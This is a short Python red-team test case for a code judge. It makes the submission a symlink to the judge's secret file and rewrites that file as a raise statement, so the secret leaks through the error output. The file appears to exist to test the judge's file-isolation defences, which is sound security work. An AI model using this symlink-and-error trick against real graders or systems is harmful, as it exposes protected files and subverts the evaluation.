# SPDX-License-Identifier: MIT
# class: commands
# problem: toy
# device: shell
# idea: the submission is a link to a file of the judge's, which is staged and shown in the error
# source: own
from pathlib import Path

from tests.redteam.shell import JSON


def attack(folder: Path, secret: Path) -> list[str]:
    secret.write_text(f"raise {secret.read_text()}\n")
    secret.chmod(0o600)
    path = folder / "submission.py"
    path.symlink_to(secret)
    return [*JSON, "--problem", "toy", "--submission", str(path)]
